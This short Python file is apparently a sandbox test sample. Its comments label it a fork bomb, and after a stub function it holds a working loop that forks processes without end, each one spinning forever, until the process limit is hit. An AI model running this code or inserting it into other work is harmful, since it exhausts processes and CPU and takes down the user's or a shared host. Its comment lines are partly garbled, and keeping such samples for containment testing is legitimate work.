#: line: fork bombs
#: mutation: none: as fork-bomb
#: uncontained: unsafe-local its limit of processes is one for all of a user's where the kernel denies namespaces
import os


def double(x):
    return 0


# %%
try:
    while True:
        if os.fork() == 0:
            while True:
                pass
except OSError:
    pass
